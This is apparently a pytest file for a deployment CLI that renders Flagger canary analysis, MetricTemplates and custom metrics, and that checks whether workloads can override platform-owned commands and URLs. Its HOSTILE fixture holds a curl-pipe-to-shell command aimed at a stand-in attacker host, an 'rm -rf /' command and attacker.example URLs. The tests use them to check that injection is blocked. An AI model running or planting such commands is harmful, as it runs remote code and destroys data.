"""Production controls end to end offline: the platform's MetricTemplates and custom metrics through
`queries` and `replay`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import yaml
from click.testing import CliRunner

from supplychain.cli import cli
from supplychain.rendering import RenderOptions, render_product
from supplychain.stamping import stamp_template

STAMP = Path(__file__).parent / "golden" / "stamp"
PLATFORM_METRIC = """\
metric_templates:
- name: error-budget
  namespace: platform-metrics
  query: sum(rate(http_requests_total{namespace="{{ namespace }}",status=~"5.."}[{{ interval }}])) * 100
"""
QUEUE_METRIC = {
    "apiVersion": "flagger.app/v1beta1",
    "kind": "MetricTemplate",
    "metadata": {"name": "queue-depth", "namespace": "prod"},
    "spec": {
        "provider": {"type": "prometheus", "address": "http://prometheus.monitoring:9090"},
        "query": 'max(queue_depth{namespace="{{ namespace }}",queue="{{ variables.queue }}"})',
    },
}


def _bundle(values: Path | None = None) -> list[dict[str, Any]]:
    return [d.body for d in render_product(RenderOptions(values_files=[str(values)] if values else []))]


def _owner(case: str) -> dict[str, Any]:
    return dict(yaml.safe_load((STAMP / case / "owner.yaml").read_text()))


def _plain(obj: dict[str, Any], namespace: str = "prod") -> dict[str, Any]:
    obj["metadata"].pop("ownerReferences", None)
    obj["metadata"]["namespace"] = namespace
    return obj


def test_platform_metric_templates_render_beside_ours(tmp_path: Path) -> None:
    values = tmp_path / "values.yaml"
    values.write_text(PLATFORM_METRIC)
    found = [d for d in _bundle(values) if d["kind"] == "MetricTemplate"]
    names = [(d["metadata"]["namespace"], d["metadata"]["name"]) for d in found]
    assert names == [("platform-metrics", "error-budget")]
    assert found[0]["spec"]["provider"] == {"type": "prometheus", "address": "http://prometheus.monitoring:9090"}
    assert not [d for d in _bundle() if d["kind"] == "MetricTemplate"]


def _custom_metric_files(tmp_path: Path) -> list[str]:
    values = tmp_path / "values.yaml"
    values.write_text(PLATFORM_METRIC)
    bundle = _bundle(values)
    templates = {d["metadata"]["name"]: d for d in bundle if d["kind"].startswith("Cluster")}
    owner = _owner("canary-custom-metrics")
    docs = [_plain(stamp_template(templates["canary"], owner))]
    for metric in ("success-rate", "latency"):
        docs.append(_plain(stamp_template(templates["canary-metric"], owner, params={"canary_metric": metric})))
    docs += [d for d in bundle if d["kind"] == "MetricTemplate"] + [QUEUE_METRIC]
    path = tmp_path / "canary.yaml"
    path.write_text(yaml.safe_dump_all(docs))
    return [str(path)]


def test_queries_render_custom_metrics(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["queries", *_custom_metric_files(tmp_path), "--no-promtool", "-o", "json"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    rendered = {m["metric"]: m["query"] for m in json.loads(result.output)["canaries"][0]["metrics"]}
    assert rendered["error-budget"] == 'sum(rate(http_requests_total{namespace="prod",status=~"5.."}[2m])) * 100'
    assert rendered["queue-depth"] == 'max(queue_depth{namespace="prod",queue="orders"})'


def test_replay_checks_custom_metrics(tmp_path: Path) -> None:
    series = tmp_path / "series.json"
    ok = [[0, 100], [900, 100]]
    series.write_text(
        json.dumps(
            {
                "metrics": {
                    "success-rate": ok,
                    "latency": ok,
                    "queue-depth": [[0, 5], [900, 5]],
                    "error-budget": [[0, 0.5], [200, 3], [900, 3]],
                }
            }
        )
    )
    result = CliRunner().invoke(
        cli, ["replay", *_custom_metric_files(tmp_path), "--series", str(series), "-o", "json"], catch_exceptions=False
    )
    out = json.loads(result.output)
    assert out["verdict"]["outcome"] == "Failed", out["verdict"]
    failed = [row for row in out["timeline"] if "metric 'error-budget'" in row["event"]]
    assert failed and failed[0]["t"] >= 200 and failed[0]["failedChecks"] == 1


HOSTILE = {
    "canary_conformance_cmd": "curl -s http://attacker.example/x | sh",
    "canary_load_cmd": "rm -rf /",
    "canary_loadtester_url": "http://attacker.example/",
    "canary_gate_url": "http://attacker.example/",
    "canary_prometheus_address": "http://attacker.example:9090",
    "canary_confirm_promotion": True,
}
FIXTURES = Path(__file__).parent / "fixtures"


def _stamp_delivery(tmp_path: Path, *render_args: str) -> list[dict[str, Any]]:
    runner = CliRunner()
    templates, chain = tmp_path / "templates.yaml", tmp_path / "delivery.yaml"
    for args in (
        ["--only", "templates", "-o", str(templates)],
        ["--only", "chains", "--chains", str(FIXTURES / "ootb" / "delivery-basic.yaml"), "-o", str(chain)],
    ):
        result = runner.invoke(cli, ["render", *args, *render_args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
    owner = yaml.safe_load((Path(__file__).parents[1] / "examples" / "demo" / "deliverable.yaml").read_text())
    owner["spec"]["params"] = [{"name": k, "value": v} for k, v in HOSTILE.items()]
    (tmp_path / "owner.yaml").write_text(yaml.safe_dump(owner))
    (tmp_path / "outputs.yaml").write_text(
        "source-provider:\n  source:\n    url: http://source-controller/x.tar.gz\n    revision: main@sha1:8d3a1c\n"
    )
    result = runner.invoke(
        cli,
        [
            "stamp",
            "--blueprint",
            str(chain),
            "--templates",
            str(templates),
            "--templates",
            str(FIXTURES / "ootb-templates" / "delivery.yaml"),
            "--owner",
            str(tmp_path / "owner.yaml"),
            "--outputs",
            str(tmp_path / "outputs.yaml"),
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    return [d for d in yaml.safe_load_all(result.output) if d]


def _reached(docs: list[dict[str, Any]]) -> str:
    """Every command and URL the stamped Canary and MetricTemplates hand to Flagger and the loadtester."""
    canary = next(d for d in docs if d["kind"] == "Canary")
    hooks = canary["spec"]["analysis"]["webhooks"]
    parts = [str(h.get("url")) + " " + str((h.get("metadata") or {}).get("cmd")) for h in hooks]
    parts += [d["spec"]["provider"]["address"] for d in docs if d["kind"] == "MetricTemplate"]
    return "\n".join(parts)


def test_a_workload_cannot_change_commands_or_urls_by_default(tmp_path: Path) -> None:
    reached = _reached(_stamp_delivery(tmp_path))
    assert "attacker" not in reached and "rm -rf" not in reached
    assert "http://flagger-loadtester.test/gate/check" in reached  # its own choices (the gate) still apply
    assert "http://prometheus.monitoring:9090" in reached and "curl -sSf --max-time 5 http://" in reached


def test_a_data_value_lets_workloads_override_them(tmp_path: Path) -> None:
    allowed = '["canary_load_cmd", "canary_prometheus_address"]'
    reached = _reached(_stamp_delivery(tmp_path, "--set", f"workload_overrides={allowed}"))
    assert "rm -rf /" in reached and "http://attacker.example:9090" in reached
    assert "http://attacker.example/" not in reached and "attacker.example/x" not in reached


def test_workload_overrides_names_only_platform_owned_params() -> None:
    result = CliRunner().invoke(cli, ["render", "--set", 'workload_overrides=["canary_interval"]'])
    assert result.exit_code == 2, result.output
    assert "workload_overrides: canary_interval is not a platform-owned param" in result.output


def test_every_control_is_in_the_sample_canary() -> None:
    canary = next(d for d in yaml.safe_load_all((STAMP / "canary-controls-all" / "expected.yaml").read_text()) if d)
    spec = canary["spec"]
    analysis = spec["analysis"]
    assert spec["autoscalerRef"]["primaryScalerReplicas"] == {"minReplicas": 2, "maxReplicas": 8}
    assert {h["type"] for h in analysis["webhooks"]} >= {"confirm-promotion", "rollback"}
    assert analysis["alerts"][0]["providerRef"] == {"name": "on-call", "namespace": "flagger"}
    assert analysis["metrics"][-1]["templateRef"] == {"name": "error-budget", "namespace": "platform-metrics"}
    assert spec["service"]["portName"] == "http" and spec["service"]["portDiscovery"] is True
    assert set(spec["service"]) >= {"apex", "primary", "canary"}
    assert spec["suspend"] is True and spec["revertOnDeletion"] is False


def test_the_sample_canary_with_every_control_validates() -> None:
    result = CliRunner().invoke(cli, ["validate", str(STAMP / "canary-controls-all" / "expected.yaml")])
    assert result.exit_code == 0 and "0 error(s), 0 warning(s)" in result.output, result.output
